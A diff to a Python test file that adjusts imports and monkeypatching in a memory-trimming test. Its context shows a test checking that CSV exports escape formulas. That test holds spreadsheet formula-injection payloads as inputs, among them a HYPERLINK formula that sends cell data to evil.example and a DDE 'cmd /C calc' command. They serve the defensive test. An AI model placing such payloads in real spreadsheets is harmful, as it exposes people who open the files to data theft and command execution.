@@ -1,10 +1,13 @@
 """What pages share: an action that may fail, and tables whose numbers are words."""
 
 import csv
+import ctypes
 import io
+import sys
 from collections.abc import Mapping
 from pathlib import Path
 from types import MappingProxyType, SimpleNamespace
+from typing import Any
 
 import pandas as pd
 import pytest
@@ -119,8 +122,8 @@ def test_memory_is_given_back_to_the_system_where_the_c_library_can(
     monkeypatch: pytest.MonkeyPatch, platform: str, trimmed: list[int]
 ) -> None:
     asked: list[int] = []
-    monkeypatch.setattr(greeting.ctypes, "CDLL", lambda _: SimpleNamespace(malloc_trim=asked.append))
-    monkeypatch.setattr(greeting.sys, "platform", platform)
+    monkeypatch.setattr(ctypes, "CDLL", lambda _: SimpleNamespace(malloc_trim=asked.append))
+    monkeypatch.setattr(sys, "platform", platform)
     greeting.give_back()
     assert asked == trimmed
 
@@ -139,7 +142,7 @@ def test_a_table_for_a_spreadsheet_holds_no_formula() -> None:
     """CSV files from pages contain no formula."""
     texts = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "@SUM(1)", "+1+cmd|' /C calc'!A0", "-2+3", "\t=1", "\uff1d1"]
     rows = [*zip([*texts, "a = b", ""], [-1.5, 2.0, 3, 4, 5, 6, 7, None], strict=True)]
-    columns = (Column("=1+1", lambda row: row[0]), Column("number", lambda row: row[1]))
+    columns: tuple[Column[Any], ...] = (Column("=1+1", lambda row: row[0]), Column("number", lambda row: row[1]))
     written = list(csv.reader(io.StringIO(table_as_csv(Table("cells", columns, rows)))))
     assert written[0] == ["'=1+1", "number"]
     assert [row[0] for row in written[1:]] == [*(f"'{text}" for text in texts), "a = b", ""]
